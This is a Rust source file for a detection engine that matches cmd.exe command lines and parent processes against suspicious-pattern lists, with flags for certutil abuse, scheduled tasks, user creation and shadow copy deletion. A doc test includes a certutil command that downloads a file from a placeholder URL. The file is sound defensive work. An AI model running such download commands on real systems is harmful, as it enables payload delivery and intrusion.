//! The compiled rule: one Aho-Corasick automaton per list, built once, then
//! cheap `has_any` evaluation with KQL term-boundary checks.
//!
//! The automata run overlapping searches (every occurrence counts, see
//! [`crate::kql`]). ASCII haystacks are searched in place with ASCII case
//! folding; any other haystack is first folded with Unicode lowercase into a
//! scratch buffer that remembers, for each folded byte, where its original
//! character started, so term boundaries are judged on the original text.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use alloc::boxed::Box;
use alloc::string::String;
use alloc::vec::Vec;

use crate::kql;
use crate::rule::{
    Column, Needle, FLAGS, SHELL_FILE_NAME, SUSPICIOUS_PARENTS, SUSPICIOUS_PATTERNS,
};

/// A set of needles, one bit per needle in rule order (bit 0 = first needle).
pub type NeedleSet = u32;

/// The most needles one list of a rule compiled with
/// [`CompiledRule::from_lists`] may hold, counting the flags' own needles
/// that are not in the list (a [`NeedleSet`] has one bit per needle).
pub const MAX_NEEDLES: usize = NeedleSet::BITS as usize;

/// One `has` occurrence found in a haystack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Span {
    /// Byte offset of the first byte of the occurrence in the original text.
    pub start: usize,
    /// Byte offset one past the occurrence in the original text.
    pub end: usize,
    /// Index of the needle in its list.
    pub needle: usize,
}

/// The five flags of the rule, in projection order ([`crate::rule::FLAGS`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Hash)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
pub struct Flags(pub [bool; 5]);

impl Flags {
    /// `CertutilAbuse`
    pub fn certutil_abuse(&self) -> bool {
        self.0[0]
    }
    /// `ScheduledTask`
    pub fn scheduled_task(&self) -> bool {
        self.0[1]
    }
    /// `UserCreation`
    pub fn user_creation(&self) -> bool {
        self.0[2]
    }
    /// `ShadowDelete`
    pub fn shadow_delete(&self) -> bool {
        self.0[3]
    }
    /// `SuspiciousParent`
    pub fn suspicious_parent(&self) -> bool {
        self.0[4]
    }
}

/// What the rule found in one event that passed `FileName =~ "cmd.exe"`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
pub struct Verdict {
    /// [`SUSPICIOUS_PATTERNS`] that `ProcessCommandLine` has.
    pub patterns: NeedleSet,
    /// [`SUSPICIOUS_PARENTS`] that `InitiatingProcessFileName` has.
    pub parents: NeedleSet,
    /// The extended flags.
    pub flags: Flags,
}

impl Verdict {
    /// The rule's third `where`: any pattern or any parent matched.
    pub fn is_flagged(&self) -> bool {
        self.patterns != 0 || self.parents != 0
    }

    /// Names of every needle that matched, patterns first, each list in rule
    /// order, for a verdict of the rule's own lists ([`CompiledRule::new`]);
    /// a rule compiled from edited lists names its needles with
    /// [`CompiledRule::matched`].
    pub fn matched(&self) -> impl Iterator<Item = &'static str> + '_ {
        let pats = SUSPICIOUS_PATTERNS.iter().enumerate();
        let pars = SUSPICIOUS_PARENTS.iter().enumerate();
        pats.filter(|(i, _)| self.patterns & (1 << i) != 0)
            .map(|(_, n)| n.value)
            .chain(
                pars.filter(|(i, _)| self.parents & (1 << i) != 0)
                    .map(|(_, n)| n.value),
            )
    }
}

/// One list of needles compiled into an automaton.
#[derive(Debug, Clone)]
struct NeedleList {
    automaton: AhoCorasick,
    /// Per needle: must the left / right edge sit on a term boundary?
    edges: Vec<(bool, bool)>,
}

impl NeedleList {
    fn new(needles: &[Needle]) -> Self {
        let values: Vec<&str> = needles.iter().map(|n| n.value).collect();
        Self::from_values(&values).expect("the rule's needles are a few short literals")
    }

    /// `None` when the automaton cannot be built (it can for any few short
    /// non-empty needles; the callers check lengths first).
    fn from_values(values: &[&str]) -> Option<Self> {
        let folded: Vec<_> = values.iter().map(|v| v.to_lowercase()).collect();
        let automaton = AhoCorasickBuilder::new()
            .match_kind(MatchKind::Standard)
            .ascii_case_insensitive(true)
            .build(&folded)
            .ok()?;
        let edges = values
            .iter()
            .map(|v| {
                let first = v.chars().next().is_some_and(char::is_alphanumeric);
                let last = v.chars().last().is_some_and(char::is_alphanumeric);
                (first, last)
            })
            .collect();
        Some(NeedleList { automaton, edges })
    }

    /// Calls `found` for every boundary-respecting occurrence in `haystack`.
    fn each(&self, haystack: &str, mut found: impl FnMut(Span)) {
        if haystack.is_ascii() {
            let bytes = haystack.as_bytes();
            let alnum = |i: usize| bytes[i].is_ascii_alphanumeric();
            for m in self.automaton.find_overlapping_iter(haystack) {
                let (left, right) = self.edges[m.pattern().as_usize()];
                if left && m.start() > 0 && alnum(m.start() - 1) {
                    continue;
                }
                if right && m.end() < bytes.len() && alnum(m.end()) {
                    continue;
                }
                found(Span {
                    start: m.start(),
                    end: m.end(),
                    needle: m.pattern().as_usize(),
                });
            }
            return;
        }
        let folded = Folded::new(haystack);
        for m in self.automaton.find_overlapping_iter(&folded.text) {
            // The occurrence must cover whole original characters.
            let (Some(start), Some(end)) =
                (folded.original_at(m.start()), folded.original_at(m.end()))
            else {
                continue;
            };
            let (left, right) = self.edges[m.pattern().as_usize()];
            let prev = haystack[..start].chars().next_back();
            let next = haystack[end..].chars().next();
            if left && prev.is_some_and(char::is_alphanumeric) {
                continue;
            }
            if right && next.is_some_and(char::is_alphanumeric) {
                continue;
            }
            found(Span {
                start,
                end,
                needle: m.pattern().as_usize(),
            });
        }
    }

    fn set(&self, haystack: &str) -> NeedleSet {
        let mut set = 0;
        self.each(haystack, |s| set |= 1 << s.needle);
        set
    }
}

/// A haystack folded with Unicode lowercase, remembering where each folded
/// character came from.
struct Folded {
    text: alloc::string::String,
    /// For each folded byte offset that starts an original character's fold:
    /// `Some(original byte offset)`; interior bytes map to `None`. One extra
    /// entry maps `text.len()` to the original length.
    origin: Vec<Option<usize>>,
}

impl Folded {
    fn new(original: &str) -> Self {
        let mut text = alloc::string::String::with_capacity(original.len());
        let mut origin = Vec::with_capacity(original.len() + 1);
        for (at, c) in original.char_indices() {
            let before = text.len();
            text.extend(c.to_lowercase());
            origin.push(Some(at));
            origin.resize(text.len().max(before + 1), None);
        }
        origin.truncate(text.len());
        origin.push(Some(original.len()));
        Folded { text, origin }
    }

    fn original_at(&self, folded: usize) -> Option<usize> {
        self.origin.get(folded).copied().flatten()
    }
}

/// The rule, compiled: build once with [`CompiledRule::new`], evaluate many events.
///
/// ```
/// use cmdhunt_core::matcher::CompiledRule;
/// let rule = CompiledRule::new();
/// let v = rule.evaluate("CMD.EXE", "cmd /c certutil -urlcache -f http://x/a a.exe", "explorer.exe").unwrap();
/// assert!(v.is_flagged() && v.flags.certutil_abuse());
/// assert!(rule.evaluate("powershell.exe", "reg add x", "winword.exe").is_none());
/// ```
#[derive(Debug, Clone)]
pub struct CompiledRule {
    patterns: NeedleList,
    parents: NeedleList,
    /// Per flag: the column and the needle bits (in that column's list) it tests.
    flag_masks: [(Column, NeedleSet); 5],
    /// The bits of needles that are in `SuspiciousPatterns` / `SuspiciousParents`
    /// (a rule from edited lists also searches the flags' needles it dropped).
    list_masks: (NeedleSet, NeedleSet),
    /// The lists' needles when they are not the rule's own.
    edited: Option<Box<EditedLists>>,
}

/// The needle values of a rule compiled from edited lists.
#[derive(Debug, Clone, PartialEq, Eq)]
struct EditedLists {
    patterns: Vec<String>,
    parents: Vec<String>,
}

/// Why [`CompiledRule::from_lists`] refused a list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ListError {
    /// A needle is the empty string (it would match everywhere; Kusto refuses it).
    Empty {
        /// Which list: [`Column::ProcessCommandLine`] for patterns,
        /// [`Column::InitiatingProcessFileName`] for parents.
        list: Column,
        /// The needle's index in its list.
        index: usize,
    },
    /// The list and the flags' needles missing from it exceed [`MAX_NEEDLES`].
    TooMany {
        /// Which list.
        list: Column,
        /// How many needles it would need.
        count: usize,
    },
}

impl core::fmt::Display for ListError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        let name = |list: &Column| match list {
            Column::ProcessCommandLine => "SuspiciousPatterns",
            Column::InitiatingProcessFileName => "SuspiciousParents",
        };
        match self {
            ListError::Empty { list, index } => {
                write!(f, "{}[{index}] is empty", name(list))
            }
            ListError::TooMany { list, count } => write!(
                f,
                "{} needs {count} needles with the flags' own; at most {MAX_NEEDLES}",
                name(list)
            ),
        }
    }
}

impl Default for CompiledRule {
    fn default() -> Self {
        Self::new()
    }
}

impl CompiledRule {
    /// Compile the rule in [`crate::rule`].
    pub fn new() -> Self {
        let mask = |list: &[Needle], wanted: &[&str]| -> NeedleSet {
            wanted.iter().fold(0, |acc, w| {
                let i = list.iter().position(|n| n.value == *w);
                acc | (1 << i.expect("every flag needle is in the rule's lists"))
            })
        };
        let flag_masks = FLAGS.map(|f| match f.column {
            Column::ProcessCommandLine => (f.column, mask(&SUSPICIOUS_PATTERNS, f.needles)),
            Column::InitiatingProcessFileName => (f.column, mask(&SUSPICIOUS_PARENTS, f.needles)),
        });
        CompiledRule {
            patterns: NeedleList::new(&SUSPICIOUS_PATTERNS),
            parents: NeedleList::new(&SUSPICIOUS_PARENTS),
            flag_masks,
            list_masks: (
                low_bits(SUSPICIOUS_PATTERNS.len()),
                low_bits(SUSPICIOUS_PARENTS.len()),
            ),
            edited: None,
        }
    }

    /// Compile the rule with edited `SuspiciousPatterns` and
    /// `SuspiciousParents` (needle values, as the KQL literals decode).
    ///
    /// The rule's text is otherwise unchanged, so the flags keep the KQL's
    /// meaning: `CertutilAbuse`, `ScheduledTask`, `UserCreation` and
    /// `ShadowDelete` test their own literals (still set when a list no
    /// longer holds them, on rows another needle flagged), and
    /// `SuspiciousParent` tests the whole `SuspiciousParents` list. Given the
    /// rule's own lists, the result equals [`CompiledRule::new`]'s.
    ///
    /// ```
    /// use cmdhunt_core::matcher::CompiledRule;
    /// let rule = CompiledRule::from_lists(&["reg add", "tasklist"], &["outlook.exe"]).unwrap();
    /// let v = rule.evaluate("cmd.exe", "cmd /c tasklist", "explorer.exe").unwrap();
    /// assert_eq!(rule.matched(&v).collect::<Vec<_>>(), ["tasklist"]);
    /// assert!(rule.evaluate("cmd.exe", "cmd /c for /f x", "explorer.exe").is_none());
    /// ```
    pub fn from_lists<P: AsRef<str>, Q: AsRef<str>>(
        patterns: &[P],
        parents: &[Q],
    ) -> Result<Self, ListError> {
        let patterns: Vec<&str> = patterns.iter().map(AsRef::as_ref).collect();
        let parents: Vec<&str> = parents.iter().map(AsRef::as_ref).collect();
        for (list, values) in [
            (Column::ProcessCommandLine, &patterns),
            (Column::InitiatingProcessFileName, &parents),
        ] {
            if let Some(index) = values.iter().position(|v| v.is_empty()) {
                return Err(ListError::Empty { list, index });
            }
        }
        // The command-line automaton searches the list, then the flags'
        // literals the list lacks; `SuspiciousParent` is the parents list.
        let mut searched = patterns.clone();
        let mut flag_masks = [(Column::ProcessCommandLine, 0); 5];
        for (slot, f) in flag_masks.iter_mut().zip(FLAGS.iter()) {
            let mask = match f.column {
                Column::InitiatingProcessFileName => low_bits(parents.len()),
                Column::ProcessCommandLine => f.needles.iter().fold(0, |mask, needle| {
                    let at = searched
                        .iter()
                        .position(|v| v == needle)
                        .unwrap_or_else(|| {
                            searched.push(needle);
                            searched.len() - 1
                        });
                    // Past MAX_NEEDLES the rule is refused just below.
                    mask | if at < MAX_NEEDLES { 1 << at } else { 0 }
                }),
            };
            *slot = (f.column, mask);
        }
        for (list, count) in [
            (Column::ProcessCommandLine, searched.len()),
            (Column::InitiatingProcessFileName, parents.len()),
        ] {
            if count > MAX_NEEDLES {
                return Err(ListError::TooMany { list, count });
            }
        }
        let built = |list, values: &[&str]| {
            NeedleList::from_values(values).ok_or(ListError::TooMany {
                list,
                count: values.len(),
            })
        };
        Ok(CompiledRule {
            patterns: built(Column::ProcessCommandLine, &searched)?,
            parents: built(Column::InitiatingProcessFileName, &parents)?,
            flag_masks,
            list_masks: (low_bits(patterns.len()), low_bits(parents.len())),
            edited: Some(Box::new(EditedLists {
                patterns: patterns.iter().map(|&p| p.into()).collect(),
                parents: parents.iter().map(|&p| p.into()).collect(),
            })),
        })
    }

    /// The `SuspiciousPatterns` this rule searches, in list order.
    pub fn patterns(&self) -> Vec<&str> {
        match &self.edited {
            Some(e) => e.patterns.iter().map(String::as_str).collect(),
            None => SUSPICIOUS_PATTERNS.iter().map(|n| n.value).collect(),
        }
    }

    /// The `SuspiciousParents` this rule searches, in list order.
    pub fn parents(&self) -> Vec<&str> {
        match &self.edited {
            Some(e) => e.parents.iter().map(String::as_str).collect(),
            None => SUSPICIOUS_PARENTS.iter().map(|n| n.value).collect(),
        }
    }

    /// Whether the lists are the rule's own ([`CompiledRule::new`]), so
    /// [`Verdict::matched`] names a verdict's needles.
    pub fn is_default(&self) -> bool {
        self.edited.is_none()
    }

    /// Names of every needle of this rule's lists that matched, patterns
    /// first, each list in order (for the rule's own lists, the same as
    /// [`Verdict::matched`]).
    pub fn matched<'a>(&'a self, verdict: &'a Verdict) -> impl Iterator<Item = &'a str> + 'a {
        let (patterns, parents) = (self.patterns(), self.parents());
        let pats = patterns
            .into_iter()
            .enumerate()
            .filter(|(i, _)| verdict.patterns & (1 << i) != 0);
        let pars = parents
            .into_iter()
            .enumerate()
            .filter(|(i, _)| verdict.parents & (1 << i) != 0);
        pats.chain(pars).map(|(_, n)| n)
    }

    /// `FileName =~ "cmd.exe"`.
    pub fn is_shell(&self, file_name: &str) -> bool {
        kql::equals_ci(file_name, SHELL_FILE_NAME)
    }

    /// The [`SUSPICIOUS_PATTERNS`] (or the edited list's needles) that `command_line` has.
    pub fn pattern_set(&self, command_line: &str) -> NeedleSet {
        self.patterns.set(command_line) & self.list_masks.0
    }

    /// The [`SUSPICIOUS_PARENTS`] (or the edited list's needles) that `parent_file_name` has.
    pub fn parent_set(&self, parent_file_name: &str) -> NeedleSet {
        self.parents.set(parent_file_name) & self.list_masks.1
    }

    /// Every occurrence of a suspicious pattern in `command_line` (for highlighting).
    pub fn pattern_spans(&self, command_line: &str) -> Vec<Span> {
        let mut out = Vec::new();
        let listed = self.list_masks.0;
        self.patterns.each(command_line, |s| {
            if listed & (1 << s.needle) != 0 {
                out.push(s)
            }
        });
        out
    }

    /// Every occurrence of a suspicious parent name in `parent_file_name`.
    pub fn parent_spans(&self, parent_file_name: &str) -> Vec<Span> {
        let mut out = Vec::new();
        let listed = self.list_masks.1;
        self.parents.each(parent_file_name, |s| {
            if listed & (1 << s.needle) != 0 {
                out.push(s)
            }
        });
        out
    }

    /// Everything after `where Timestamp > ago(...)`: `None` unless the event is
    /// `cmd.exe` and matched a pattern or a parent.
    pub fn evaluate(&self, file_name: &str, command_line: &str, parent: &str) -> Option<Verdict> {
        if !self.is_shell(file_name) {
            return None;
        }
        let verdict = self.verdict(command_line, parent);
        verdict.is_flagged().then_some(verdict)
    }

    /// Pattern and parent sets plus flags, without the `FileName` filter.
    pub fn verdict(&self, command_line: &str, parent: &str) -> Verdict {
        // Flags look at every needle searched (a flag's literal may be off an edited list).
        let patterns = self.patterns.set(command_line);
        let parents = self.parents.set(parent);
        let flags = Flags(self.flag_masks.map(|(column, mask)| match column {
            Column::ProcessCommandLine => patterns & mask != 0,
            Column::InitiatingProcessFileName => parents & mask != 0,
        }));
        Verdict {
            patterns: patterns & self.list_masks.0,
            parents: parents & self.list_masks.1,
            flags,
        }
    }
}

/// A set with the first `n` needles (`n` at most [`MAX_NEEDLES`]).
fn low_bits(n: usize) -> NeedleSet {
    if n >= MAX_NEEDLES {
        NeedleSet::MAX
    } else {
        (1 << n) - 1
    }
}
